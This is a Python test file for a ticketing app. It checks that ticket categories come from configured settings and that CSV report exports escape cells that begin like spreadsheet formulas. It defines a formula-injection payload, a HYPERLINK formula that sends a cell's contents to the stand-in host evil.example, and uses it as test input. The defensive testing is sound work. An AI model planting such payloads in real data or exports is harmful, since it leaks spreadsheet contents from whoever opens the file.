"""Nothing a user typed becomes a live spreadsheet formula: ticket categories come from
``[complaints] categories``, and every text cell of a CSV export that starts like a
formula is written as text (a leading ``'``, as OWASP recommends)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import aiohttp
import pytest
from sqlalchemy import insert, update

from cti_bridge.core.csv_cells import csv_text, safe_cell
from cti_bridge.store.models import Agent, Ticket, table
from tests.store.helpers import add_customer
from tests.supervision.helpers import FakeClock, running

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def body(response: aiohttp.ClientResponse, status: int) -> Any:
    assert response.status == status, await response.text()
    return await response.json()


async def test_ticket_categories_come_from_the_settings(db_url: str) -> None:
    async with running(db_url, FakeClock()) as run, await run.login("ann") as ann:
        jane = await add_customer(run.daemon.engine, "Jane", "+15551234567")  # type: ignore[arg-type]
        base = {"customer_id": jane, "kind": "complaint", "subject": "Bill"}
        for bad in (EVIL, "Billing", "weather"):
            refused = await body(
                await ann.post("/api/tickets", json={**base, "category": bad}), 422
            )
            assert refused["error"]["field"] == "category"
            assert "billing" in refused["error"]["message"]
        ticket = await body(
            await ann.post("/api/tickets", json={**base, "category": "billing"}), 201
        )
        assert ticket["category"] == "billing"
        uncategorised = await body(await ann.post("/api/tickets", json=base), 201)
        assert uncategorised["category"] == ""
        url = f"/api/tickets/{ticket['id']}"
        await body(await ann.patch(url, json={"category": EVIL}), 422)
        assert (await body(await ann.patch(url, json={"category": "delivery"}), 200))[
            "category"
        ] == "delivery"


async def test_figures_csv_writes_formulas_as_text(db_url: str) -> None:
    when = datetime(2026, 11, 20, 10, tzinfo=UTC)
    async with running(
        db_url, FakeClock(datetime(2026, 11, 30, 12, tzinfo=UTC).timestamp())
    ) as run:
        engine = run.daemon.engine
        jane = await add_customer(engine, "Jane", "+15551234567")  # type: ignore[arg-type]
        # Rows written before categories were checked, and a name an admin typed.
        async with engine.begin() as conn:  # type: ignore[union-attr]
            await conn.execute(
                insert(table(Ticket)),
                [_complaint(jane, category, when) for category in (EVIL, "+1", "-2", "@x", "\tA")],
            )
            await conn.execute(
                update(table(Agent)).where(Agent.username == "ann").values(display_name="=1+2")
            )
            await conn.execute(
                insert(table(Ticket)),
                [{**_complaint(jane, "billing", when), "created_by_id": run.agents["ann"].id}],
            )
        async with await run.login("sue") as sue:
            response = await sue.get("/api/reports/figures.csv?from=2026-11-16&to=2026-11-29")
            text = await response.text()
    rows = list(csv.DictReader(io.StringIO(text)))
    keys = {r["key"] for r in rows if r["dimension"] == "category"}
    assert keys == {"'" + EVIL, "'+1", "'-2", "'@x", "'\tA", "billing"}
    labels = {r["label"] for r in rows if r["dimension"] == "agent"}
    assert labels == {"'=1+2"}
    total = next(r for r in rows if r["dimension"] == "total")
    assert total["complaints"] == "6"  # numbers stay numbers


def _complaint(customer: int, category: str, when: datetime) -> dict[str, Any]:
    return {
        "customer_id": customer, "kind": "complaint", "subject": "k", "category": category,
        "call_id": None, "created_by_id": None, "created_at": when, "updated_at": when,
        "status": "open", "priority": "normal", "description": "", "responsible_party": "",
        "root_cause": "", "corrective_action": "", "complaint_step": "received",
        "channel": "phone", "sla_calendar": "", "sla_consumed": 0.0, "sla_target": "response",
        "sla_state": "on_time", "sla_level": 0, "sla_rev": 0,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (2.5, 2.5),
    ],
)
def test_a_text_cell_that_starts_like_a_formula_is_text(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_csv_text_routes_every_cell_through_the_guard() -> None:
    rows = list(csv.reader(io.StringIO(csv_text([["key", "n"], ["=1", -3], ["ok", 0.5]]))))
    assert rows == [["key", "n"], ["'=1", "-3"], ["ok", "0.5"]]
